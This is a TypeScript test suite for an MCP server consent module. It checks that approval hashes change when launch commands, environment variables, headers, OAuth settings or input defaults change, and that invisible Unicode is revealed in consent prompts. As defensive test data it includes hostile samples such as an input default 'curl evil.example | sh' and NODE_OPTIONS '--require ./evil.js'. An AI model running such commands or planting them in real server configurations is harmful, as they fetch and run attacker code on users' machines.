import assert from 'node:assert/strict';
import { showInvisible } from '../../../src/protocol/plain/invisible';
import {
  decidesWhatRuns,
  launchHash,
  toolChanges,
  toolHash,
  toolsInWords,
  type DescribedTool,
  consentFacts,
} from '../../../src/core/mcp/approval';
import { readServers } from '../../../src/core/mcp/readServers';
import type { McpServer } from '../../../src/core/mcp/server';

const server = (
  fields: object,
  place: Partial<{ file: string; folder: string; own: boolean }> = {},
  name = 'a',
): McpServer =>
  readServers(JSON.stringify({ servers: { [name]: fields } }), {
    file: '.mcp.json',
    folder: '/work',
    own: false,
    ...place,
  }).servers[0]!;
const base = { command: 'npx', args: ['-y', 'x'], env: { KEY: 'one', PATH: '/bin' } };

describe('a consent to start a server', () => {
  const differs = async (other: McpServer, files: Record<string, string> = {}): Promise<boolean> =>
    (await launchHash(server(base))) !== (await launchHash(other, { files, decided: {}, hasUnknownPrograms: false }));

  it('holds for its command, arguments, folder, names of variables, and the place where it is named', async () => {
    assert.ok(await differs(server({ ...base, command: 'node' })));
    assert.ok(await differs(server({ ...base, args: ['-y', 'y'] })));
    assert.ok(await differs(server({ ...base, args: ['-y x'] })));
    assert.ok(await differs(server({ ...base, cwd: 'sub' })));
    assert.ok(await differs(server({ ...base, env: { ...base.env, OTHER: '1' } })));
    assert.ok(await differs(server(base, { folder: '/other' })));
    assert.ok(await differs(server(base, { file: '.vscode/mcp.json' })));
    assert.ok(await differs(server(base, {}, 'b')));
    assert.ok(await differs(server(base), { 'server.js': 'abc' }));
  });

  it('holds for the values of variables as they are written, for the names of those of the machine, and for the values of these that decide what runs', async () => {
    assert.ok(await differs(server({ ...base, env: { ...base.env, KEY: 'two' } })));
    const user = (value: string): McpServer =>
      server({ command: 'python3', args: ['-m', 'notes'], env: { PYTHONUSERBASE: value } });
    assert.notEqual(await launchHash(user('./base')), await launchHash(user('./evil')));
    const given = (decided: Record<string, string>): Promise<string> =>
      launchHash(user('${env:BASE}'), { files: {}, decided, hasUnknownPrograms: false });
    assert.notEqual(await given({ PYTHONUSERBASE: 'one' }), await given({ PYTHONUSERBASE: 'two' }));
    for (const name of ['PYTHONUSERBASE', 'NODE_OPTIONS', 'ZDOTDIR', 'CLASSPATH']) assert.ok(decidesWhatRuns(name));
    for (const name of ['KEY', 'NODE_ENV', 'NODE_AUTH_TOKEN', 'GITHUB_TOKEN']) assert.ok(!decidesWhatRuns(name));
    assert.ok(await differs(server({ ...base, env: { ...base.env, PATH: '/tmp' } })));
    assert.ok(await differs(server({ ...base, env: { ...base.env, KEY: '${env:AWS_SECRET}' } })));
    const [one, two] = [{ NODE_OPTIONS: '--no-warnings' }, { NODE_OPTIONS: '--require ./evil.js' }].map((env) =>
      server({ command: 'node', env }),
    );
    assert.notEqual(await launchHash(one!), await launchHash(two!));
  });

  it('holds for an address and the names of headers', async () => {
    const web = (url: string, headers = {}): Promise<string> => launchHash(server({ url, headers }));
    assert.notEqual(await web('https://a.example/mcp'), await web('https://b.example/mcp'));
    assert.notEqual(await web('https://a.example/mcp'), await web('https://a.example/mcp', { 'x-key': '1' }));
    assert.equal(
      await web('https://a.example/mcp', { 'X-Key': '1' }),
      await web('https://a.example/mcp', { 'x-key': '2' }),
    );
  });

  it('holds for the client it signs in as, and shows its id but not its secret', async () => {
    const web = (oauth?: object): McpServer => server({ url: 'https://a.example/mcp', ...(oauth && { oauth }) });
    const own = web({ clientId: 'mine', clientSecret: '${env:SECRET}' });
    for (const other of [
      web(),
      web({ clientId: 'theirs', clientSecret: '${env:SECRET}' }),
      web({ clientId: 'mine', clientSecret: '${env:AWS_SECRET}' }),
      web({ clientId: 'mine', clientSecret: '${env:SECRET}', callbackPort: 4321 }),
    ])
      assert.notEqual(await launchHash(own), await launchHash(other));
    assert.notEqual(
      await launchHash(web({ clientId: 'mine' })),
      await launchHash(web({ clientId: 'mine', clientSecret: 'written' })),
    );
    const { variablesSet: set, variablesReceived: given } = consentFacts(own, { files: {}, hasUnknownPrograms: false });
    assert.deepEqual([set, given], [['oauth.clientId=mine', 'oauth.clientSecret'], ['SECRET']]);
    assert.deepEqual(
      consentFacts(web({ clientId: 'mine', callbackPort: 4321 }), { files: {}, hasUnknownPrograms: false })
        .variablesSet,
      ['oauth.clientId=mine', 'oauth.callbackPort=4321'],
    );
  });

  it('holds for the inputs it uses and shows their defaults, which start it where nobody enters another value', async () => {
    const asking = (fallback: string, more: object = {}): McpServer => ({
      ...server({ command: 'sh', args: ['-c', '${input:what}'], ...more }),
      inputs: [
        { id: 'what', description: 'What to run', secret: false, fallback },
        { id: 'other', description: 'Not used', secret: false, fallback },
      ],
    });
    assert.notEqual(await launchHash(asking('true')), await launchHash(asking('curl evil.example | sh')));
    assert.equal(
      await launchHash({ ...asking('true'), inputs: asking('true').inputs.slice(0, 1) }),
      await launchHash(asking('true')),
    );
    assert.deepEqual(consentFacts(asking('tru\u200be'), { files: {}, hasUnknownPrograms: true }).defaults, [
      '${input:what} = "tru⟨U+200B⟩e"',
    ]);
    const web = (fallback: string): McpServer => ({
      ...server({ url: '${input:address}', headers: { authorization: 'Bearer ${env:TOKEN}' } }),
      inputs: [{ id: 'address', description: '', secret: false, fallback }],
    });
    assert.notEqual(await launchHash(web('https://a.example')), await launchHash(web('https://b.example')));
  });

  it('is asked for with everything that decides, and what a person would not see is named', () => {
    const facts = consentFacts(
      server({
        command: 'sh',
        args: ['-c', 'x\u202ey\u200b'],
        env: { KEY: 'secret', NODE_OPTIONS: '-r x', T: '${env:TOKEN}' },
      }),
      { files: { 'x.js': 'h' }, hasUnknownPrograms: false },
    );
    assert.deepEqual(facts, {
      name: 'a',
      place: '.mcp.json:1',
      launch: 'sh -c "x⟨U+202E⟩y⟨U+200B⟩"',
      variablesSet: ['KEY', 'NODE_OPTIONS=-r x', 'T'],
      variablesReceived: ['TOKEN'],
      defaults: [],
      files: ['x.js'],
      hasUnknownPrograms: false,
    });
    assert.equal(showInvisible('a\u{e0041}\u2028\u2029\u2800\n'), 'a⟨U+E0041⟩⟨U+2028⟩⟨U+2029⟩⟨U+2800⟩\n');
    assert.deepEqual(
      consentFacts(server({ command: 'node', env: { NODE_OPTIONS: 'a\nb' } }), { files: {}, hasUnknownPrograms: false })
        .variablesSet,
      ['NODE_OPTIONS=a⟨U+000A⟩b'],
    );
  });
});

describe('the tools of a server', () => {
  const tool = (name: string, more: Partial<DescribedTool> = {}): DescribedTool => ({
    name,
    description: `Does ${name}.`,
    inputSchema: { type: 'object', properties: { a: { type: 'string' } } },
    ...more,
  });

  it('are others when anything that they say of themselves is', async () => {
    const changes = await toolChanges({ one: tool('one'), two: tool('two'), gone: tool('gone') }, [
      tool('one'),
      tool('two', { description: 'Does evil.' }),
      tool('new'),
    ]);
    assert.deepEqual(
      [changes.same, changes.changed, changes.added].map((tools) => tools.map(({ name }) => name)),
      [['one'], ['two'], ['new']],
    );
    assert.deepEqual(changes.gone, ['gone']);
    const hash = await toolHash(tool('one'));
    for (const other of [
      tool('one', { title: 'x' }),
      tool('one', { annotations: { readOnlyHint: true } }),
      tool('one', { inputSchema: { type: 'object' } }),
    ])
      assert.notEqual(await toolHash(other), hash);
    assert.equal(
      await toolHash(tool('one', { inputSchema: { properties: { a: { type: 'string' } }, type: 'object' } })),
      hash,
      'the order of keys says nothing',
    );
    assert.deepEqual((await toolChanges({}, [tool('constructor')])).added.length, 1);
  });

  it('can be read and compared as a text without anything hidden in it', () => {
    const words = toolsInWords([
      tool('two'),
      tool('one', { description: 'Says\u200b it.', annotations: { readOnlyHint: true } }),
    ]);
    assert.match(
      words,
      /^# one\n\nSays⟨U\+200B⟩ it\.\n\n\{\n {2}"properties"[\s\S]*hints: \{"readOnlyHint":true\}\n\n\n# two/,
    );
  });
});
